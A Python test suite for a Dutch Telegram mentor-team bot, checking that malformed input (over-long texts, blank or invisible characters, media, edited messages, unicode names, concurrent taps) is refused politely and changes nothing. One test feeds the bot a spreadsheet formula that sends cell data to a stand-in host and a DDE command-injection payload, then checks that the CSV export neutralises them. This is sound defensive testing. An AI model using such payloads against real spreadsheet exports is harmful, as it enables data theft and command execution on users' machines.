"""Bad input in answers and commands: every case gets a clear, polite answer and changes
nothing (codes and joining: test_bad_codes.py)."""

from __future__ import annotations

import asyncio
import csv
import io

from sqlalchemy import select

from storage.models import Answer, Member, StudentQuestion
from tests.harness import Harness
from tests.security.helpers import (
    STARR_KEY,
    STARR_LIMIT,
    changes,
    count,
    db_state,
    is_question,
    no_sorry,
    says,
    starr_open,
)
from tgsandbox import SandboxUser, SentMessage

# ------------------------------------------------------------------------------ long texts


async def test_a_starr_answer_over_its_max_length_is_not_stored(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    too_long = ("Situatie: een kind viel van de glijbaan. " * 60)[: STARR_LIMIT + 1]
    reply = await h.say(ilse, too_long)
    assert reply.text == (
        f"Dat bericht is te lang ({STARR_LIMIT + 1} tekens, maximaal {STARR_LIMIT}). "
        "Kun je het korter maken?"
    )
    assert changes(before, await db_state(h)) == {}
    assert "Opgeslagen" in (await h.say(ilse, too_long[:STARR_LIMIT])).text  # exactly the limit
    async with h.db.transaction() as s:
        stored = await s.scalar(select(Answer.text).where(Answer.question_key == STARR_KEY))
    assert stored == too_long[:STARR_LIMIT]


async def test_a_text_over_telegrams_own_limit_is_refused_too(h: Harness) -> None:
    """Telegram never delivers more than 4096 characters, but the sandbox can inject it: the
    bot measures and refuses it like any text over the question's limit."""
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    reply = await h.say(ilse, "a" * 5000)
    assert reply.text.startswith("Dat bericht is te lang (5000 tekens, maximaal 2000)")
    assert changes(before, await db_state(h)) == {}


async def test_a_question_for_the_team_over_its_limit_is_not_stored(h: Harness) -> None:
    cohort_id = await h.cohort()
    ilse = h.api.add_user("Ilse")
    await h.join(ilse, await h.code(cohort_id))
    before = await db_state(h)
    reply = await h.say(ilse, "/vraag " + "x" * 2001)
    assert "te lang (2001 tekens, maximaal 2000)" in reply.text
    assert changes(before, await db_state(h)) == {}


async def test_whitespace_only_text_is_not_an_answer(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    for blank in ("   ", " \n\t \n ", "\u00a0\u2003"):
        reply = await h.say(ilse, blank)
        assert reply.text.startswith("Ik zie geen tekst"), repr(reply.text)
    assert changes(before, await db_state(h)) == {}


# ------------------------------------------------------------------------------ non-text


async def test_stickers_photos_voice_and_locations_while_a_text_question_is_open(
    h: Harness,
) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    sends = [
        h.api.send_sticker(ilse),
        h.api.send_photo(ilse),
        h.api.send_photo(ilse, caption="Situatie: zie foto"),
        h.api.send_voice(ilse),
        h.api.send_location(ilse, 52.09, 5.12),
        h.api.send_document(ilse, "starr.txt", b"Situatie: ..."),
    ]
    for send in sends:
        reply = await says(h, ilse, send)
        assert reply.text == "Ik kan alleen tekst en knoppen lezen. Wil je je antwoord typen?"
    assert changes(before, await db_state(h)) == {}
    assert "Opgeslagen" in (await h.say(ilse, "Situatie: ik las voor.")).text  # still open
    assert no_sorry(h, ilse)


# ------------------------------------------------------------------------- edited messages

EDITED = "Je hebt een bericht aangepast. Een aanpassing lees ik niet."


def own_message(h: Harness, user: SandboxUser, text: str) -> SentMessage:
    return next(
        m
        for m in reversed(h.api.bot().messages(user.id, include_user=True))
        if m.from_user is not None and m.text == text
    )


async def test_an_edited_answer_is_answered_politely_and_never_stored_twice(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    # an edit of an older message while the text question is open is not taken as the answer
    await h.say(ilse, "/help")
    before = await db_state(h)
    reply = await says(
        h, ilse, h.api.edit_text(ilse, own_message(h, ilse, "/help").message_id, "Situatie: x")
    )
    assert reply.text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}

    reply = await h.say(ilse, "Eerste versie")
    assert "Opgeslagen" in reply.text and is_question(reply)  # one message: saved, and next
    before = await db_state(h)
    first = own_message(h, ilse, "Eerste versie")
    for text in ("Tweede versie", "Derde versie"):
        reply = await says(h, ilse, h.api.edit_text(ilse, first.message_id, text))
        assert reply.text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}
    async with h.db.transaction() as s:
        texts = list(await s.scalars(select(Answer.text).where(Answer.question_key == STARR_KEY)))
    assert texts == ["Eerste versie"]
    assert no_sorry(h, ilse)


async def test_an_edited_command_does_not_run_again(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    assert "opgeslagen" in (await h.say(docent, "/verwachting Oefen een kringgesprek.")).text
    assert "naar je mentorteam gestuurd" in (await h.say(ilse, "/vraag Mag ik ruilen?")).text
    before = await db_state(h)
    command = own_message(h, docent, "/verwachting Oefen een kringgesprek.")
    edit = h.api.edit_text(docent, command.message_id, "/verwachting Iets heel anders.")
    assert (await says(h, docent, edit)).text.startswith(EDITED)
    question = own_message(h, ilse, "/vraag Mag ik ruilen?")
    edit = h.api.edit_text(ilse, question.message_id, "/vraag Mag ik nog iets vragen?")
    assert (await says(h, ilse, edit)).text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}
    assert await count(h, StudentQuestion) == 1


async def test_an_edit_in_a_group_is_ignored_quietly(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    group = h.api.add_group("Mentorteam")
    await h.api.add_member_to_group(docent, group)
    await h.api.send_text(docent, "Wie neemt de koffie mee?", chat=group)
    message = next(
        m for m in h.api.bot().messages(group.id, include_user=True) if m.from_user is not None
    )
    before, mark = await db_state(h), h.api.mark(group)
    await h.api.edit_text(docent, message.message_id, "Wie neemt de thee mee?", chat=group)
    help_reply = await h.say(docent, "/help", chat=group)  # handled after the edit
    assert "Je zit in het mentorteam van PW3A" in help_reply.text
    assert h.api.messages(group)[mark:] == [help_reply]  # nothing about the edit
    assert changes(before, await db_state(h)) == {}


# --------------------------------------------------------------- commands without argument


async def test_commands_without_their_argument_explain_how(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    group = h.api.add_group("Mentorteam")
    await h.api.add_member_to_group(docent, group)
    before = await db_state(h)
    cases = [
        (ilse, None, "/vraag", "Stuur je vraag zo: /vraag gevolgd door je vraag."),
        (ilse, None, "/vraag    ", "Stuur je vraag zo: /vraag gevolgd door je vraag."),
        (ilse, None, "/taal", "Kies een taal: /taal nl of /taal en."),
        (ilse, None, "/taal 🙂", "Kies een taal: /taal nl of /taal en."),
        (ilse, None, "/koppel", "/koppel werkt alleen in een groep."),
        (docent, None, "/student", "Gebruik: /student gevolgd door"),
        (docent, None, "/antwoord", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/antwoord 5", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/antwoord abc hallo", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/verwachting", "Gebruik: /verwachting gevolgd door"),
        (docent, None, "/verwachting   ", "Gebruik: /verwachting gevolgd door"),
        (docent, None, "/nu", "Gebruik: /nu verwachtingen, /nu reflectie of /nu observatie"),
        (docent, None, "/nu onzin", "Gebruik: /nu verwachtingen, /nu reflectie of /nu observatie"),
        (docent, None, "/taal", "Kies een taal: /taal nl of /taal en."),
        (docent, group, "/koppel", "Stuur in de groep van het mentorteam /koppel gevolgd door"),
    ]
    for user, chat, command, expected in cases:
        reply = await h.say(user, command, chat=chat)
        assert reply.text.startswith(expected), (command, reply.text)
    assert changes(before, await db_state(h)) == {}
    assert no_sorry(h, docent, ilse)


# ------------------------------------------------------------------------- unicode names

NAMES = [
    ("مريم", "الحسن"),  # Arabic, right to left
    ("שירה", "כהן"),  # Hebrew, right to left
    ("Zoë 🌸", None),  # an emoji outside the BMP (2 UTF-16 units)
    ("Ŝtefan‍👩‍💻", "Ñúñez"),  # a zero-width joiner sequence
    ("<b>Bob</b> & Co", None),  # markup characters: shown as typed, never parsed
    ("Wilhelmina Catharina Josephine Ana Maria van der Berg-Oosterhout", None),
]


async def test_names_in_any_script_join_and_appear_in_the_overview(h: Harness) -> None:
    longest = NAMES[-1][0]
    assert len(longest) == 64  # Telegram's longest first name
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    students = [h.api.add_user(first, last) for first, last in NAMES]
    full = [" ".join(p for p in names if p) for names in NAMES]
    for user, name in zip(students, full, strict=True):
        welcome = await h.join(user, await h.code(cohort_id))
        assert welcome.text.startswith(f"Dank je, {name}!") or f"Dank je, {name}" in welcome.text
    async with h.db.transaction() as s:
        stored = set(await s.scalars(select(Member.name).where(Member.role == "student")))
    assert stored == set(full)
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    for user in students:
        await h.api.wait_for_message(user, lambda m: "reflectie" in (m.text or ""), timeout=20)
    overview = await h.say(docent, "/overzicht")
    assert "Ingevuld: 0 van 6" in overview.text
    for name in full:
        assert name in overview.text, name
    for query, name in (
        ("مريم", full[0]),
        ("כהן", full[1]),
        ("Bob", full[4]),
        ("Oosterhout", longest),
    ):
        history = await h.say(docent, f"/student {query}")
        assert name in history.text, (query, history.text)
    assert no_sorry(h, docent, *students)


# ----------------------------------------------------------------------- concurrent taps


async def test_ten_concurrent_taps_of_one_rating_store_one_answer(h: Harness) -> None:
    cohort_id = await h.cohort()
    tess = h.api.add_user("Tess")
    await h.join(tess, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    first = await h.api.wait_for_message(tess, lambda m: "reflectie" in (m.text or ""), timeout=20)
    data = next(b["callback_data"] for b in first.buttons() if b["text"] == "4")
    mark = h.api.mark(tess)
    queries = await asyncio.gather(*(h.api.press_button(tess, first, data) for _ in range(10)))
    answers = [(await h.api.wait_for_callback_answer(q)).text for q in queries]
    assert answers.count("Opgeslagen ✓") == 1
    assert answers.count("Dat antwoord had je al gegeven.") == 9
    await h.api.wait_for_message(tess, is_question, since=mark)
    assert (await h.say(tess, "/help")).text.startswith(
        "Ik ben de bot van je mentorteam"
    )  # settled
    asked = [m for m in h.api.messages(tess)[mark:] if is_question(m)]
    assert len(asked) == 1 and "Vraag 2 van" in asked[0].text
    async with h.db.transaction() as s:
        rows = list(await s.execute(select(Answer.question_key, Answer.rating)))
    assert [tuple(r) for r in rows] == [("rating-veilig-klimaat", 4)]
    assert no_sorry(h, tess)


async def test_a_typed_reply_to_a_closed_rounds_question(h: Harness) -> None:
    cohort_id, ilse, starr = await starr_open(h)
    await h.state.live().scheduler.push(cohort_id, "reflection", week=2)  # closes week 1
    await h.api.wait_for_message(
        ilse, lambda m: "reflectie van week 2" in (m.text or ""), timeout=20
    )
    before = await db_state(h)
    reply = await h.say(ilse, "Situatie: te laat, maar toch.", reply_to=starr)
    assert changes(before, await db_state(h)) == {}  # holds today
    assert "De vragen van die week zijn gesloten" in reply.text, reply.text


async def test_mentor_texts_over_their_limit_are_not_stored(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    assert "naar je mentorteam gestuurd" in (await h.say(ilse, "/vraag Mag ik ruilen?")).text
    async with h.db.transaction() as s:
        question_id = await s.scalar(select(StudentQuestion.id))
    before = await db_state(h)
    long = "Oefen een kringgesprek. " * 146  # 3504 characters, under Telegram's 4096
    reply = await h.say(docent, f"/verwachting {long.strip()}")
    assert reply.text == "Die tekst is te lang (3503 tekens, hooguit 3500)."
    reply = await h.say(docent, f"/antwoord {question_id} {long.strip()}")
    assert reply.text == "Dat antwoord is te lang (3503 tekens, hooguit 3500)."
    assert changes(before, await db_state(h)) == {}


async def test_names_and_answers_that_look_like_formulas_are_quoted_in_the_export(
    h: Harness,
) -> None:
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    user = h.api.add_user('=HYPERLINK("http://x.example/?"&A1)', None)
    await h.join(user, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    message = await h.api.wait_for_message(
        user, lambda m: "reflectie van week 1" in (m.text or ""), timeout=20
    )
    while "1" in [b["text"] for b in message.buttons()]:
        mark = h.api.mark(user)
        await h.api.press(user, message, "3")
        message = await h.api.wait_for_message(user, is_question, since=mark)
    assert "Opgeslagen" in (await h.say(user, "@SUM(1+1)*cmd|' /C calc'!A0")).text
    export = await h.say(docent, "/export")
    assert export.document is not None
    rows = list(csv.reader(io.StringIO(export.document.data.decode("utf-8"))))
    students = {row[1] for row in rows[1:]}
    texts = {row[6] for row in rows[1:]} - {""}
    assert students == {"'" + '=HYPERLINK("http://x.example/?"&A1)'}
    assert texts == {"'@SUM(1+1)*cmd|' /C calc'!A0"}


async def test_a_message_of_invisible_characters_is_not_an_answer(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    for blank in ("\u200b", "\u3164", "\u2800\u2800", "\u200b \u200d"):
        reply = await h.say(ilse, blank)
        assert reply.text.startswith("Ik zie geen tekst"), (repr(blank), reply.text)
    assert changes(before, await db_state(h)) == {}


async def test_a_blank_reply_to_the_question_prompt_reaches_nobody(h: Harness) -> None:
    cohort_id = await h.cohort()
    ilse = h.api.add_user("Ilse")
    await h.join(ilse, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "expectations", week=1)
    week1 = await h.api.wait_for_message(ilse, lambda m: "Week 1" in (m.text or ""), timeout=20)
    mark = h.api.mark(ilse)
    await h.api.press(ilse, week1, "Vraag hierover")
    prompt = await h.api.wait_for_message(ilse, since=mark)
    assert "Typ je vraag" in prompt.text
    await h.settled()  # the prompt's message id is stored right after it is sent
    before = await db_state(h)
    reply = await h.say(ilse, "   \n  ", reply_to=prompt)
    assert "naar je mentorteam gestuurd" not in reply.text, reply.text
    assert changes(before, await db_state(h)) == {}
